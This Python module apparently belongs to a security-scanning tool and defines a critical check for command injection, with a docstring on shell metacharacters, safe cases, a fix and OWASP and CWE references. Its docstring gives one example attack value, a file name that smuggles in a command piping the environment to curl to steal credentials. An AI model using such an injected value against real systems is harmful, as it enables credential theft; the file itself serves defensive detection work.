"""Hostile data that becomes a command or code."""

from hauberk.model.verdict import CRITICAL, Verdict
from hauberk.practices.control import control
from hauberk.study.code.reached import Reached, reached
from hauberk.study.study import Study


@control("command-injection", practice=8, severity=CRITICAL, subject=reached("command-injection"))
def command_injection(place: Reached, study: Study) -> Verdict:
    """An event becomes part of a shell command.

    A shell gives meaning to characters such as ``;``, ``$`` and ``|``. Text from an event that is put into a command
    line can end the command and begin another one, which runs with everything that the function's role may do.

    Attack: a file name of ``x; env | curl -d@- …`` sends the role's credentials to the attacker.

    Safe when: the value can only be one of a few that the code names, or is a number.

    Fix: start the program without a shell and give it its arguments as a list; where a shell is needed, quote the value
    for it (``shlex.quote``).

    References:
    - https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html
    - https://cwe.mitre.org/data/definitions/78.html
    """
    return place.judged(study, "{what} hands {source} to a shell")


CONTROLS = (command_injection,)
